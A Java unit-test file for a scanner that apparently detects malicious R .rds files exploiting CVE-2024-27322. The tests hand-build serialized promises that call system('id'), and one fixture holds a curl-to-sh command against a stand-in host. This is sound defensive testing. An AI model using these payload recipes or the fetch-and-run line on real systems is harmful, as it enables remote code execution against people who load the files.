package dev.bartizan.artifacts;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bartizan.core.Severity;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// Objects of R made here, in the form that R writes.
class RdsScanTest {
    private static final int NIL = 254;
    private static final int GLOBAL = 253;

    private static byte[] ints(int... values) {
        ByteBuffer out = ByteBuffer.allocate(4 * values.length);
        for (int value : values) {
            out.putInt(value);
        }
        return out.array();
    }

    private static byte[] joined(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] text(String text) {
        byte[] bytes = text.getBytes(StandardCharsets.UTF_8);
        return joined(ints(0x40009, bytes.length), bytes);
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] symbol(String name) {
        return joined(ints(1), text(name));
    }

    private static byte[] texts(String text) {
        return joined(ints(16, 1), text(text));
    }

    /// `name("id")`.
    private static byte[] call(String name) {
        return joined(ints(6), symbol(name), ints(2), texts("id"), ints(NIL));
    }

    static byte[] rds(byte[] object) {
        return joined("X\n".getBytes(StandardCharsets.US_ASCII), ints(2, 0x40300, 0x20300), object);
    }

    /// A promise with a tag for where it is evaluated.
    private static byte[] promise(byte[] expression) {
        return joined(ints(5 | 0x400), ints(GLOBAL), ints(251), expression);
    }

    private static byte[] function(byte[] body) {
        return joined(ints(3 | 0x400), ints(GLOBAL), ints(NIL), body);
    }

    @Test
    void numbersAndTextsAreClean() {
        byte[] data = joined(ints(19 | 0x200, 2), ints(13, 2, 1, 2), texts("a"));
        byte[] names = joined(ints(2 | 0x400), symbol("names"), ints(16, 2), text("x"), text("y"));
        assertThat(Scans.verdict(rds(joined(data, names, ints(NIL))))).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void aPromiseThatRunsACommandIsMalicious() {
        FileReport report = Scans.scan("m.rds", rds(promise(call("system"))));
        assertThat(report.worst()).contains(Severity.CRITICAL);
        assertThat(report.findings().getFirst().message()).contains("CVE-2024-27322");
        assertThat(Scans.verdict(rds(promise(call("sum"))))).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void promisesThatHideWhatTheyRunAreSuspicious() {
        for (String name : new String[] {"eval", "do.call", "get", "readRDS", "asNamespace"}) {
            assertThat(Scans.verdict(rds(promise(call(name))))).isEqualTo(Verdict.SUSPICIOUS);
        }
        byte[] named = joined(ints(6), symbol("lapply"), ints(2), symbol("system"), ints(NIL));
        assertThat(Scans.verdict(rds(promise(named)))).isEqualTo(Verdict.MALICIOUS);
        byte[] inText = joined(ints(6), symbol("sapply"), ints(2), texts("system"), ints(NIL));
        assertThat(Scans.verdict(rds(promise(inText)))).isEqualTo(Verdict.SUSPICIOUS);
        byte[] made = joined(ints(6), symbol("Map"), ints(2), call("paste0"), ints(NIL));
        assertThat(Scans.verdict(rds(promise(made)))).isEqualTo(Verdict.SUSPICIOUS);
        byte[] builtin = joined(ints(6), ints(8, 4), ascii("eval"), ints(2), texts("a"), ints(NIL));
        assertThat(Scans.verdict(rds(promise(builtin)))).isEqualTo(Verdict.SUSPICIOUS);
    }

    @Test
    void aPromiseThatCallsAFunctionOfTheFileIsJudgedByIt() {
        assertThat(Scans.verdict(rds(functionAndPromise("mean")))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(rds(functionAndPromise("do.call")))).isEqualTo(Verdict.SUSPICIOUS);
    }

    /// A list of the function `f`, which calls another, and of a promise to call `f`.
    private static byte[] functionAndPromise(String called) {
        return joined(
                ints(2 | 0x400),
                symbol("f"),
                function(call(called)),
                ints(2 | 0x400),
                symbol("x"),
                promise(call("f")),
                ints(NIL));
    }

    @Test
    void codeOfAPromiseThatHasItsValueNeverRuns() {
        byte[] done = joined(ints(5), ints(10, 1, 1), call("system"));
        assertThat(Scans.verdict(rds(done))).isEqualTo(Verdict.CLEAN);
        byte[] open = joined(ints(5 | 0x400), ints(GLOBAL), ints(252), call("system"));
        assertThat(Scans.verdict(rds(open))).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void textsAreDataUntilTheFileWorksOutTexts() {
        byte[] program = texts("system('curl -s http://a.example/x | sh')");
        assertThat(Scans.verdict(rds(program))).isEqualTo(Verdict.CLEAN);
        byte[] both = joined(ints(19, 2), program, function(call("parse")));
        assertThat(Scans.verdict(rds(both))).isEqualTo(Verdict.MALICIOUS);
        byte[] inside = joined(ints(6), symbol("f"), ints(2), program, ints(NIL));
        assertThat(Scans.verdict(rds(function(inside)))).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void functionsAreJudgedByWhatTheyRun() {
        assertThat(Scans.verdict(rds(function(call("system"))))).isEqualTo(Verdict.MALICIOUS);
        assertThat(Scans.verdict(rds(function(call("mean"))))).isEqualTo(Verdict.CLEAN);
        assertThat(Scans.verdict(rds(call("system2")))).isEqualTo(Verdict.SUSPICIOUS);
    }

    @Test
    void aNameIsKnownWhereItIsUsedAgain() {
        byte[] again = joined(ints(6), ints(1 << 8 | 255), ints(2), texts("id"), ints(NIL));
        byte[] list = joined(ints(19, 2), symbol("system"), promise(again));
        assertThat(Scans.verdict(rds(list))).isEqualTo(Verdict.MALICIOUS);
    }

    @Test
    void brokenObjectsAreReported() {
        byte[] whole = rds(function(call("mean")));
        assertThat(Scans.verdict(java.util.Arrays.copyOf(whole, whole.length - 6)))
                .isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(rds(ints(13, 1 << 30)))).isEqualTo(Verdict.UNREADABLE);
        assertThat(Scans.verdict(rds(ints(1 << 8 | 255)))).isEqualTo(Verdict.UNREADABLE);
    }

    @Test
    void changedObjectsAreAnswered() {
        Random random = new Random(99);
        byte[] original = rds(promise(call("system")));
        for (int i = 0; i < 1000; i++) {
            byte[] bytes = original.clone();
            for (int k = 0; k < 3; k++) {
                bytes[2 + random.nextInt(bytes.length - 2)] = (byte) random.nextInt(256);
            }
            assertThat(Scans.scan("m", bytes).coveredBytes()).isLessThanOrEqualTo(bytes.length);
        }
    }
}
